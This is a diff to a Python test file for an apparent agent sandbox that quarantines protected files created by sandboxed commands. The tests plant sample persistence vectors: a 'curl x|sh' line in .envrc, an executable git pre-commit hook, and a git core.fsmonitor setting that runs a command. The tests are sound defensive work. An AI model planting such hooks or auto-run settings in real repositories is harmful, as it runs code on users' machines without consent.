@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import signal
+import subprocess
 import sys
 from pathlib import Path
 
@@ -114,9 +115,43 @@ def test_missing_hooks_dir_is_created_and_protected(workspace: Path) -> None:
     assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
 
 
-def test_created_protected_names_are_reported(workspace: Path) -> None:
-    result = run("workspace-write", ["sh", "-c", "echo 'curl x|sh' > .envrc"], workspace)
-    assert result.protected_created == [str(workspace / ".envrc")]
+def test_created_protected_names_are_quarantined(workspace: Path, tmp_path: Path,
+                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CODEX_HOME", str(tmp_path / "codex-home"))
+    script = "echo 'curl x|sh' > .envrc; mkdir .vscode; echo '{}' > .vscode/tasks.json"
+    result = run("workspace-write", ["sh", "-c", script], workspace)
+    assert result.protected_created == [str(workspace / ".envrc"), str(workspace / ".vscode")]
+    assert not (workspace / ".envrc").exists() and not (workspace / ".vscode").exists()
+    moved = Path(result.quarantined[str(workspace / ".envrc")])
+    assert moved.read_text() == "curl x|sh\n"
+    assert moved.is_relative_to(tmp_path / "codex-home" / "quarantine")
+
+
+def test_new_repository_keeps_working_without_planted_hooks(
+        workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CODEX_HOME", str(tmp_path / "codex-home"))
+    script = ("git init -q . && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit"
+              " && chmod +x .git/hooks/pre-commit && echo a > a && git add a"
+              " && git -c user.name=t -c user.email=t@t commit -q --no-verify -m one")
+    result = run("workspace-write", ["sh", "-c", script], workspace)
+    assert result.exit_code == 0, result.stderr
+    hooks = workspace / ".git" / "hooks"
+    assert not (hooks / "pre-commit").exists()
+    assert str(hooks / "pre-commit") in result.quarantined
+    assert (workspace / ".git" / "config").exists(), "git init's own config stays"
+    log = subprocess.run(["git", "log", "--format=%s"], cwd=workspace, capture_output=True,
+                         text=True, check=True)
+    assert log.stdout == "one\n"
+
+
+def test_new_repository_config_that_runs_programs_is_quarantined(
+        workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CODEX_HOME", str(tmp_path / "codex-home"))
+    script = "git init -q . && git config core.fsmonitor 'touch /tmp/pwned'"
+    result = run("workspace-write", ["sh", "-c", script], workspace)
+    assert result.exit_code == 0, result.stderr
+    assert not (workspace / ".git" / "config").exists()
+    assert str(workspace / ".git" / "config") in result.quarantined
 
 
 def test_private_tmpdir_is_writable_then_removed(workspace: Path) -> None:
